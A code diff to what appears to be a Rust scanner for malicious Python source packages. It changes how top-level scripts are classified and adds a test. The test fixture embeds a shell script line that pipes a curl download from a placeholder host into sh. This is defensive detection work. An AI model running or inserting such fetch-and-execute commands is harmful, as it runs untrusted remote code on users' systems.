@@ -222,11 +222,13 @@ impl Collector<'_> {
             self.called.extend(analyze::unasked_call_names(&data, role));
         }
         let top_level = m.path.split('/').filter(|c| !c.is_empty()).count() <= 2;
-        if depth == 0 && top_level && role == analyze::Role::Module {
+        // Top-level Python modules wait for the `.pth` files (which may
+        // import them); scripts are judged by whether setup.py names them.
+        let script = SCRIPTS.iter().any(|x| lower.ends_with(x));
+        if depth == 0 && top_level && role == analyze::Role::Module && !script {
             self.deferred.push((path, data));
             return;
         }
-        let script = SCRIPTS.iter().any(|x| lower.ends_with(x));
         for f in analyze::analyze(self.rules, &path, &data, role) {
             if script {
                 self.scripts.push((path.clone(), f));
@@ -922,6 +924,14 @@ mod tests {
                 .max()
         };
         let quiet = top(b"from setuptools import setup\nsetup()\n");
+        // A script at the top of the sdist is a script too.
+        let archive = targz(&[(
+            "p-1.0/build-docs.sh",
+            b"#!/bin/sh\ncurl -LsSf https://x.example/install.sh | sh\n".as_slice(),
+        )]);
+        let scan = scan_bytes("p-1.0.tar.gz", &archive, &Limits::default()).unwrap();
+        let worst = scan.findings.iter().map(|(_, f)| f.severity).max();
+        assert_eq!(worst, Some(Severity::Medium), "{:?}", scan.findings);
         assert!(quiet.is_some_and(|s| s <= Severity::Medium), "{quiet:?}");
         let named = top(b"import subprocess\nsubprocess.call(['sh', 'ci/install.sh'])\n");
         assert!(named.is_some_and(|s| s >= Severity::High), "{named:?}");
